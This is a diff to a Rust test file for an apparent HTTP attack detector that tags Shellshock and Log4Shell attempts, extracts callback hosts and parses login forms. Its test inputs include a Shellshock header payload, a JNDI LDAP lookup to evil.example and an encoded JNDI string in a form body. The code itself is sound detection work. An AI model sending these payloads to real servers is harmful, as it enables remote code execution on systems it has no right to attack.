@@ -3,7 +3,11 @@ use super::*;
 fn of_target(target: &str) -> Vec<&'static str> {
     let mut signs = Signs::default();
     signs.head(target.as_bytes(), [].into_iter());
-    signs.take().iter().map(|sign| sign.rule).collect()
+    names(&signs.take())
+}
+
+fn names(signs: &[HttpSign]) -> Vec<&'static str> {
+    signs.iter().filter_map(|sign| sign.rule.strip_prefix("exploit.")).collect()
 }
 
 fn of_field(name: &str, value: &str) -> Box<[HttpSign]> {
@@ -55,7 +59,7 @@ fn ordinary_targets_give_nothing() {
 #[test]
 fn fields_give_attacks_away_with_whom_they_call() {
     let signs = of_field("User-Agent", "() { :;}; /bin/ping -c1 198.51.100.9");
-    assert_eq!((signs[0].rule, signs[0].place), ("shellshock CVE-2014-6271", "field"));
+    assert_eq!((signs[0].rule, signs[0].place), ("exploit.shellshock CVE-2014-6271", "field"));
     assert_eq!(*signs[0].callbacks, [("198.51.100.9".into(), None)]);
     let signs = of_field("X-Api", "${jndi:${lower:l}dap://evil.example:1389/a}");
     assert_eq!(*signs[0].callbacks, [("evil.example".into(), Some(1_389))]);
@@ -68,7 +72,7 @@ fn bodies_give_attacks_away() {
     let of_body = |kind: &[u8], body: &[u8], target: &str| {
         let mut signs = Signs::default();
         signs.body(kind, body, target);
-        signs.take().iter().map(|sign| sign.rule).collect::<Vec<_>>()
+        names(&signs.take())
     };
     assert_eq!(
         of_body(FORM, b"uname=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%7D", "/login"),
@@ -90,4 +94,7 @@ fn forms_show_logins_and_no_secret() {
     assert_eq!((nested.has_password, nested.user.as_deref()), (true, Some("a@b.example")));
     assert_eq!(form(FORM, b"q=password&password=").map(|form| form.has_password), Some(false));
     assert_eq!(form(b"text/plain", b"password=x"), None);
+    let json =
+        form(b"application/json", b"{\"user\": \"yamada\", \"password\": \"x\", \"keep\": true}").unwrap();
+    assert_eq!((json.has_password, json.user.as_deref()), (true, Some("yamada")));
 }
